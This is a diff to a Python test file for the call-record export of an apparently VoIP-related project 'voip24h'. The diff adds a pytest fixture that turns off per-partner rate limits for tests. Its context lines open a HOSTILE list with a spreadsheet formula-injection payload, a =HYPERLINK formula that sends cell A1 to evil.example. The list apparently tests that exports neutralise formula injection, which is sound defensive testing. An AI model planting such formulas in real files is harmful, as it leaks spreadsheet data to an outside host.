@@ -13,7 +13,7 @@ import orjson
 import pytest
 
 from tests.builders import cdr_row
-from tests.test_extended import calls
+from tests.test_extended import calls, unlimited
 from voip24h import export
 from voip24h.db.queries import records as record_queries
 from voip24h.db.reader import make_reader
@@ -21,6 +21,13 @@ from voip24h.partners import Scope
 from voip24h.query import RecordQuery
 from voip24h.records import CallRecord
 from voip24h.service import Partner, RecordService
+
+
+@pytest.fixture
+def client(make_client: Any, settings: Any) -> Any:
+    """The app without per-partner rate limits: these tests send many requests quickly."""
+    return make_client(**unlimited(settings))
+
 
 HOSTILE = [
     '=HYPERLINK("http://evil.example/?"&A1,"click")',
